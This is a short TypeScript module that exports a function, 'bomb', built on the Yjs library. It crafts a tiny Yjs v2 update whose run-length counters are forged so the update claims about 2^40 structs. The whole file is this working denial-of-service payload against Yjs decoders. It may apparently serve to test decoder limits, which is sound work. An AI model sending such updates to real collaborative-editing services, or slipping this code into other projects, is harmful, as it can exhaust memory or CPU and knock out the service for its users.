import * as Y from 'yjs'

/** A Yjs v2 update of some 30 bytes that claims to hold very many structs, each like the one before. */
export function bomb(count = 2 ** 40): Uint8Array {
  const encoder = new Y.UpdateEncoderV2()
  const writeNumber = (value: number) => {
    encoder.resetDsCurVal()
    encoder.writeDsClock(value)
  }
  writeNumber(1)
  writeNumber(count)
  encoder.writeClient(7)
  writeNumber(0)
  const struct = new Y.GC(Y.createID(7, 0), 1)
  for (let i = 0; i < 3; i++) struct.write(encoder, 0)
  // Runs are stored as a value and a repeat count: here the count is forged.
  encoder.infoEncoder.count = count
  encoder.lenEncoder.count = count
  writeNumber(0)
  return encoder.toUint8Array()
}
